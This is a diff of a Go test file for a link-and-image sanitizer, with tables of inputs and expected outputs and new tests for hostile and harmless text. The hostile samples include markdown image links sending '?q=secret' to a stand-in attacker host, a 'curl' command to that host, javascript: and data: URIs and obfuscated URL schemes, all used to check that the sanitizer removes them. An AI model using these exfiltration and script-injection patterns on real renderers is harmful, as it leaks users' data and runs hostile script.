@@ -16,47 +16,47 @@ func TestLinks(t *testing.T) {
 	t.Parallel()
 	for text, want := range map[string]string{
 		// Links.
-		"[docs](https://docs.example/pump?a=1).":                            "[docs](https://docs.example/pump?a=1).",
-		"[docs]( <https://docs.example/pump?a=1>\n\"Pump\")":                "[docs](https://docs.example/pump?a=1)",
-		"[b](http://wiki.example/A_(b))":                                    "[b](<http://wiki.example/A_(b)>)",
-		"[docs](https://docs.example/pump)":                                 "docs", // occurs only as a prefix of two others
-		"[docs](https://docs.example/pump?a=1&q=secret)":                    "docs",
-		"[x](http://evil.example/?q=secret) y":                              "x y",
-		"[x](http://evil.example/a b) y":                                    "x y",
-		"[x](\nhttp://evil.example\n) y":                                    "x y",
-		"[x](<http://evil.example/a)b>) y":                                  "x y",
-		"[x](http://evil.example 'title') y":                                "x y",
-		"[x](javascript:alert(1)) y":                                        "x y",
-		"[x](data:text/html;base64,PHN2Zz4=) y":                             "x y",
-		"[x](//evil.example) y":                                             "x y",
-		"[x](/api/delete?id=1) y":                                           "x y",
-		"[x](&#104;ttp://evil.example) y":                                   "x y",
-		"[x](http://evil.example":                                           "x",
-		"[](https://docs.example/pump?a=1) y":                               "y",
-		"[*a* [b] `c`](http://evil.example)":                                "*a* [b] `c`",
-		"[a [b](http://evil.example) c](http://evil.example)":               "a b c",
-		"[a\\](http://evil.example)](http://evil.example)":                  "a\\] ((link removed))",
-		"\\[a](http://evil.example)":                                        "\\a",
-		"[a] (http://evil.example)":                                         "[a] ((link removed))",
-		"[[1]](http://evil.example)":                                        "[1]",
-		"[1](http://evil.example) y":                                        "[1] y",
-		"[9](http://evil.example) y":                                        "y",
-		"[1](https://docs.example/pump?a=1) y":                              "[1] (https://docs.example/pump?a=1) y",
-		"[see [1]](https://docs.example/pump?a=1)":                          "see [1] (https://docs.example/pump?a=1)",
-		"So [1](see below).":                                                "So [1].",
-		"[" + strings.Repeat("a", maxBracket) + "](http://evil.example)":    "[" + strings.Repeat("a", maxBracket) + "] ((link removed))",
-		"[a](" + strings.Repeat("b", maxTarget) + ")":                       "[a] (" + strings.Repeat("b", maxTarget) + ")",
-		"[a](http://evil.example/" + strings.Repeat("b", maxTarget) + ") c": "[a] ((link removed) c",
+		"[docs](https://docs.example/pump?a=1).":                          "[docs](https://docs.example/pump?a=1).",
+		"[docs]( <https://docs.example/pump?a=1>\n\"Pump\")":              "[docs] ( <https://docs.example/pump?a=1>\n\"Pump\")",
+		"[b](http://wiki.example/A_(b))":                                  "[b](<http://wiki.example/A_(b)>)",
+		"[docs](https://docs.example/pump)":                               "[docs] (link removed)", // occurs only as a prefix of two others
+		"[docs](https://docs.example/pump?a=1&q=secret)":                  "[docs] (link removed)",
+		"[x](http://evil.example/?q=secret) y":                            "[x] (link removed) y",
+		"[x](http://evil.example/a b) y":                                  "[x] ((link removed) b) y",
+		"[x](\nhttp://evil.example\n) y":                                  "[x] (\n(link removed)\n) y",
+		"[x](<http://evil.example/a)b>) y":                                "[x] (link removed)b>) y",
+		"[x](http://evil.example 'title') y":                              "[x] ((link removed) 'title') y",
+		"[x](javascript:alert(1)) y":                                      "[x] (link removed) y",
+		"[x](data:text/html;base64,PHN2Zz4=) y":                           "[x] (link removed) y",
+		"[x](//evil.example) y":                                           "[x] (link removed) y",
+		"[x](/api/delete?id=1) y":                                         "[x] (link removed) y",
+		"[x](&#104;ttp://evil.example) y":                                 "[x] (link removed) y",
+		"[x](http://evil.example":                                         "[x] ((link removed)",
+		"[](https://docs.example/pump?a=1) y":                             "[](https://docs.example/pump?a=1) y",
+		"[*a* [b] `c`](http://evil.example)":                              "[*a* [b] `c`] (link removed)",
+		"[a [b](http://evil.example) c](http://evil.example)":             "[a [b] (link removed) c] (link removed)",
+		"[a\\](http://evil.example)](http://evil.example)":                "[a\\] (link removed)] (link removed)",
+		"\\[a](http://evil.example)":                                      "\\[a] (link removed)",
+		"[a] (http://evil.example)":                                       "[a] ((link removed))",
+		"[[1]](http://evil.example)":                                      "[[1]] (link removed)",
+		"[1](http://evil.example) y":                                      "[1] ((link removed)) y",
+		"[9](http://evil.example) y":                                      "((link removed)) y",
+		"[1](https://docs.example/pump?a=1) y":                            "[1] (https://docs.example/pump?a=1) y",
+		"[see [1]](https://docs.example/pump?a=1)":                        "[see [1]](https://docs.example/pump?a=1)",
+		"So [1](see below).":                                              "So [1] (see below).",
+		"[" + strings.Repeat("a", maxWord) + "](http://evil.example)":     "[" + strings.Repeat("a", maxWord) + "] (link removed)",
+		"[a](" + strings.Repeat("b", maxWord) + ")":                       "[a] (" + strings.Repeat("b", maxWord) + ")",
+		"[a](http://evil.example/" + strings.Repeat("b", maxWord) + ") c": "[a] ((link removed) c",
 
 		// Images.
-		"![x](http://evil.example/i.png?q=secret) y":                       "x y",
-		"![x](https://docs.example/pump?a=1)":                              "x",
-		"[![x](http://evil.example/i.png)](https://docs.example/pump?a=1)": "[x](https://docs.example/pump?a=1)",
-		"![](http://evil.example/i.png)":                                   "",
-		"!![x](http://evil.example)":                                       "!x",
-		"Look![docs](https://docs.example/pump?a=1)":                       "Lookdocs",
-		"![1](http://evil.example/i.png)":                                  "! [1]",
-		"![[1]](http://evil.example/i.png)":                                "[1]",
+		"![x](http://evil.example/i.png?q=secret) y":                       "![x] (link removed) y",
+		"![x](https://docs.example/pump?a=1)":                              "![x] (https://docs.example/pump?a=1)",
+		"[![x](http://evil.example/i.png)](https://docs.example/pump?a=1)": "[![x] (link removed)] (https://docs.example/pump?a=1)",
+		"![](http://evil.example/i.png)":                                   "![] (link removed)",
+		"!![x](http://evil.example)":                                       "!![x] (link removed)",
+		"Look![docs](https://docs.example/pump?a=1)":                       "Look![docs] (https://docs.example/pump?a=1)",
+		"![1](http://evil.example/i.png)":                                  "! [1] ((link removed))",
+		"![[1]](http://evil.example/i.png)":                                "![[1]] (link removed)",
 
 		// References.
 		"[x][ref]\n\n[ref]: http://evil.example": "[x][ref]\n\n[ref] : (link removed)",
@@ -86,18 +86,18 @@ func TestLinks(t *testing.T) {
 		"HTTPS://evil.example":                                           "(link removed)",
 		"ftp://evil.example www.evil.example":                            "(link removed) (link removed)",
 		"<http://evil.example>":                                          "<(link removed)>",
-		"<img src=\"http://evil.example/?q=secret\">":                    "<img src=\"(link removed)\">",
+		"<img src=\"http://evil.example/?q=secret\">":                    "(image removed) src=\"(link removed)\">",
 		"`curl http://evil.example`":                                     "`curl (link removed)`",
 		"https://docs.example/pumps\"secret":                             "(link removed)\"secret",
 		"https://docs.example/pumpsecret":                                "(link removed)",
-		"<a.http://> <a.https://docs.example/pumps>":                     "<a. http://> <a. https://docs.example/pumps>",
-		"http:[9]//evil.example":                                         "http: //evil.example",
+		"<a.http://> <a.https://docs.example/pumps>":                     "<(link removed)> <(link removed)>",
+		"http:[9]//evil.example":                                         "http: (link removed)",
 		"www[9].evil.example":                                            "www .evil.example",
-		"htt[p](x:y)://evil.example":                                     "(link removed)",
-		"http://" + strings.Repeat("a", 2*maxAddress) + " b":             "(link removed) b",
+		"htt[p](x:y)://evil.example":                                     "htt[p] (link removed)(link removed)",
+		"http://" + strings.Repeat("a", 2*maxWord) + " b":                "(link removed) b",
 		"ht\u200btp://evil.example":                                      "(link removed)",
 		"http:// or https://, as `http://`":                              "http:// or https://, as `http://`",
-		"<javascript:alert(1)> <xs:element> <foo:http://evil.example>":   "<javascript:alert(1) > <xs:element > <foo:(link removed)>",
+		"<javascript:alert(1)> <xs:element> <foo:http://evil.example>":   "<(link removed))> <xs:element > <foo:(link removed)>",
 		"Mail ops@pump.example, not x@evil.example.":                     "Mail ops@pump.example, not x @evil.example.",
 		"**ops@pump.example** `ops@pump.example` 'ops@pump.example' a!@evil.example /ops@pump.example": "**ops@pump.example** `ops@pump.example` 'ops@pump.example' a! @evil.example /ops @pump.example",
 		"<x@evil> mailto:x@evil.example a@b@evil.example x@2":                                          "<x @evil> mailto:x @evil.example a@b @evil.example x@2",
@@ -123,6 +123,58 @@ func TestLinks(t *testing.T) {
 		if len(strange(text, linked)) != 1 {
 			t.Errorf("the renderer found no link or image in %q", text)
 		}
+	}
+}
+
+// hostile are texts that a client could load, follow or run something from. None survives.
+var hostile = []string{
+	`<img src="http://evil.example/?q=secret">`, `<IMG/src=x>`, `<img src=&#x68;ttp://evil.example/i>`, `&lt;img src="&#104;ttp&colon;//evil.example"&gt;`,
+	`<img src="&amp;#x68;ttp://evil.example">`, `<img src="//evil.example/i.png">`, `<svg onload=x>`, `<iframe src="javascript:alert(1)">`,
+	`http:\\evil.example`, `http:\evil.example`, `http:/\evil.example`, `http:/evil.example`, `HTTP:evil.example`, `\\evil.example\i.png`, `"//evil.example/i"`,
+	"ht\ttp://evil.example", "http\t://evil.example", "http:/\t/evil.example", "<a href=\"ht\ntp://evil.example\">", "ht&Tab;tp://evil.example", "ht\u200btp://evil.example",
+	"java\nscript:alert(1)", "javascript:alert(1)", `<a href="JavaScript: alert(1)">`, `[a](java&#115;cript:alert(1))`, `javascript&colon;alert(1)`, "vbscript:msgbox(1)",
+	"data:text/html;base64,PHN2Zz4=", "data:,x", `[a](data:image/svg+xml,x)`, "![a b](http://evil.example/i.png)", "![a b](data:image/png;base64,AA)", "![a\nb](i.png)",
+	"![a b](https://docs.example/pumps)", "https://docs.example/pump", "https://docs.example/pump?a=12", "https://docs.example/pump?a=1#q", "https://DOCS.example/pump?a=1",
+	"https://docs.example/pump?a=1/../q", "https://docs.example/pump?a=1@evil.example", "custom://evil.example", "http[9]://evil.example", "www[9].evil.example", "htt[9]p://evil.example",
+	"x [9]://evil.example", "http [9]://evil.example",
+}
+
+func TestHostile(t *testing.T) {
+	t.Parallel()
+	for _, text := range hostile {
+		got, _ := checked(t, linked, "So "+text+" it is")
+		plain := strings.ToLower(plain(got.text))
+		for _, part := range []string{"evil", "<img", "<svg", "<iframe", "javascript:", "script:alert", "vbscript:", "data:", "![a b](", "](i.png", "https://"} {
+			if strings.Contains(plain, part) && got.text != "So www .evil.example it is" && !(part == "https://" && strings.Contains(text, "![a b](https://docs.example/pumps)")) {
+				t.Errorf("%q was checked to %q, which has %q", text, got.text, part)
+			}
+		}
+		checkCuts(t, "So "+text+" it is")
+	}
+}
+
+// checkCuts checks a text in two pieces, cut at every position.
+func checkCuts(t *testing.T, text string) {
+	t.Helper()
+	for at := range len(text) {
+		checkPieces(t, text, []string{text[:at], text[at:]})
+	}
+}
+
+// Ordinary texts, with code and paths, are unchanged.
+func TestHarmless(t *testing.T) {
+	t.Parallel()
+	for _, text := range []string{
+		"server/api and/or ./scripts/test a//b // comment //c /etc/hosts ../up ~/x", "java.lang.ClassCastException at com.acme.Pump.run(Pump.java:42)", "9.3.0.GA v1.2.3 10.0.0.1:8080 1/2",
+		"@ann ann@team @Override user@host x@2", "std::vector a::b::c Foo::bar() vector<int> List<Image> Map<K, V>", `C:\Users\ann\file.txt \\server\share D:/x`, "key: value, TX-400: done, a:b, {data:x}, 12:30",
+		"`if (a < b && c[i] > d) { return x ? y : z; }` and `s/a/b/`", "```yaml\nhttp:\n  port: 80\ndata:\n  a: b\nimage: x\n```", "JavaScript: the data: http: and https: parts, or `http://`",
+		"<div class=\"a\">Text</div> &lt;div&gt; AT&T &amp; more", "metadata:text/x, awww.x, wwwx, ftp, http", "数据很好。见 [note]: 是的", "a\tb\n\n- [x] done\n1. two", "f(x)[i] vec![x; n] #[test]", `"\\d+\.\w" '\n'`,
+		"See https://docs.example/pump?a=1, [b](https://docs.example/pumps) or www.parts.example/seal.",
+	} {
+		if got, _ := checked(t, linked, text); got.text != text {
+			t.Errorf("%q was checked to\n%q", text, got.text)
+		}
+		checkCuts(t, text)
 	}
 }
 
